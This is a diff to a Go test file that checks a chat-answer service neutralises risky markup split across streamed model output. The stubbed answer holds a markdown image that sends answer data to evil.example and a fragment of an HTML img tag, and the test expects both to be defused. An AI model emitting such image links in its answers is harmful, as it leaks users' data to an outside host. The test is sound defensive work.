@@ -36,6 +36,18 @@ func TestAskStreamsSourcesThenTextThenCites(t *testing.T) {
 	require.Equal(t, 200, a.Context.PromptTokens)
 }
 
+func TestAnswersCarryNothingThatComesAlive(t *testing.T) {
+	t.Parallel()
+	b := setup(t, "Annual leave is 30 days.")
+	b.Options.LinkHosts = []string{"docs.example"}
+	b.model.pieces = []string{"Annual leave is 30 days! [a", "](https://docs.example/leave) ![", "x](https://evil.example/?q=30", ") <im", "g src=x"}
+	out := new(stream)
+	a, err := b.Ask(t.Context(), ask("How much annual leave is there?"), out.emit)
+	require.NoError(t, err)
+	require.Equal(t, "Annual leave is 30 days! [a](https://docs.example/leave) ! [x] (https: //evil.example/?q=30) < img src=x", a.Text)
+	require.Equal(t, a.Text, out.text())
+}
+
 func TestThePromptSaysWhoAsks(t *testing.T) {
 	t.Parallel()
 	b := setup(t, "Annual leave is 30 days.")
